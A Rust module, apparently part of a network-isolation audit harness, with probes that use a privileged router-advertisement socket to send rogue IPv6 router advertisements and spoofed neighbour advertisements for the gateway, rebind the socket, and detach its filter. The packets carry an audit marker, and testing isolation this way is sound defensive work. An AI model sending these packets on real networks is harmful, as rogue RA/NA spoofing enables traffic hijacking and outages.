//! Attacks with the router-advertisement socket phase 1 hands to its responder (A36–A39).

use super::*;

/// ND option type 253 (RFC 4727, for experiments): carries the marker by which the node
/// side recognises an audit packet (A36, A37).
pub(super) const MARKER_OPTION: u8 = 253;

/// An ND message of `kind` (RA 134, NA 136) with `body` after the 4-byte ICMPv6 header and
/// the marker option, sent to all nodes out of interface `index` on `fd` (sendmsg: what the
/// responder may call).
pub(super) fn nd_out_of(
    fd: RawFd,
    index: u32,
    kind: u8,
    body: &[u8],
    marker: &str,
) -> Result<(), i32> {
    let mut option = vec![kind, 0, 0, 0];
    option.extend_from_slice(body);
    let mut opt = vec![MARKER_OPTION, 0];
    opt.extend_from_slice(marker.as_bytes());
    while opt.len() % 8 != 0 {
        opt.push(0);
    }
    opt[1] = u8::try_from(opt.len() / 8).unwrap_or(0);
    option.extend_from_slice(&opt);
    // SAFETY: plain data for sendmsg, all alive for the call.
    let rc = unsafe {
        let mut to: libc::sockaddr_in6 = std::mem::zeroed();
        to.sin6_family = libc::AF_INET6 as libc::sa_family_t;
        to.sin6_addr.s6_addr = std::net::Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1).octets();
        to.sin6_scope_id = index;
        let mut iov = libc::iovec {
            iov_base: option.as_mut_ptr().cast(),
            iov_len: option.len(),
        };
        let mut msg: libc::msghdr = std::mem::zeroed();
        msg.msg_name = std::ptr::from_mut(&mut to).cast();
        msg.msg_namelen = std::mem::size_of::<libc::sockaddr_in6>() as libc::socklen_t;
        msg.msg_iov = &mut iov;
        msg.msg_iovlen = 1;
        libc::sendmsg(fd, &msg, 0)
    };
    if rc < 0 { Err(errno()) } else { Ok(()) }
}

pub(super) fn a36(pod: &PodUnderTest, pre: &Pre, id: &str) -> Observed {
    match pre.fds.first() {
        None => Observed::Errno(libc::ENOENT),
        // An RA (router lifetime 1800) onto the pod network, as if the pod were a router.
        Some(fd) => obs(
            nd_out_of(
                fd.as_raw_fd(),
                pre.pod_ifindex,
                134,
                &[64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0],
                &marker_of(pod, id),
            ),
            "router advertisement sent out of the pod interface",
        ),
    }
}

pub(super) fn a37(pod: &PodUnderTest, pre: &Pre, id: &str) -> Observed {
    match pre.fds.first() {
        None => Observed::Errno(libc::ENOENT),
        // An unsolicited NA with override for the node's own gateway address.
        Some(fd) => {
            let mut body = vec![0x20, 0, 0, 0];
            body.extend_from_slice(
                &std::net::Ipv6Addr::new(0xfd00, 0x10, 0x244, 0, 0, 0, 0, 1).octets(),
            );
            obs(
                nd_out_of(
                    fd.as_raw_fd(),
                    pre.pod_ifindex,
                    136,
                    &body,
                    &marker_of(pod, id),
                ),
                "neighbour advertisement sent out of the pod interface",
            )
        }
    }
}

pub(super) fn a38(pod: &PodUnderTest, _pre: &Pre, _id: &str) -> Observed {
    match pod.ra_fd {
        None => Observed::Errno(libc::ENOENT),
        Some(fd) => {
            // SAFETY: fd is the RA socket this process was given; the OwnedFd is forgotten
            // so that the probe does not close it.
            let owned = std::mem::ManuallyDrop::new(unsafe { OwnedFd::from_raw_fd(fd) });
            let mut name = pod.pod_iface.clone().into_bytes();
            name.push(0);
            obs(
                setopt(&owned, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, &name),
                "RA socket rebound to the pod interface",
            )
        }
    }
}

pub(super) fn a39(pod: &PodUnderTest, _pre: &Pre, _id: &str) -> Observed {
    match pod.ra_fd {
        None => Observed::Errno(libc::ENOENT),
        Some(fd) => {
            // SAFETY: as in A38.
            let owned = std::mem::ManuallyDrop::new(unsafe { OwnedFd::from_raw_fd(fd) });
            let detach = setopt(&owned, libc::SOL_SOCKET, libc::SO_DETACH_FILTER, &int(0));
            let unmark = setopt(&owned, libc::SOL_SOCKET, libc::SO_MARK, &int(0));
            match (detach, unmark) {
                (Ok(()), _) => ok("socket filter detached"),
                (_, Ok(())) => ok("socket mark cleared"),
                (Err(errno), _) => Observed::Errno(errno),
            }
        }
    }
}
